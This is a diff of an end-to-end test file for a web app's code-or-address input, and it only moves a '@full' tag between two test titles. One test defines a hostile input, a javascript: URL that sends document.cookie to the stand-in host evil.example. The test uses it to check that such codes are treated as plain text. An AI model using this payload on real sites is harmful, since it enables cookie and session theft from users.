@@ -23,7 +23,7 @@ async function typeCode(page: Page, text: string) {
   await asked.getByRole('textbox', { name: 'Código o dirección' }).press('Enter');
 }
 
-test('the printed code of a place opens the place, without requests to other hosts @phone @full', async ({
+test('the printed code of a place opens the place, without requests to other hosts @phone', async ({
   site,
   api,
 }) => {
@@ -44,7 +44,7 @@ test('the printed code of a place opens the place, without requests to other hos
   await close();
 });
 
-test('a hostile code is only text; a link is opened after its host was confirmed @phone', async ({
+test('a hostile code is only text; a link is opened after its host was confirmed @phone @full', async ({
   site,
 }) => {
   const hostile = `javascript:location='https://evil.example/'+alert(document.cookie)//${site.url}/c/cafe`;
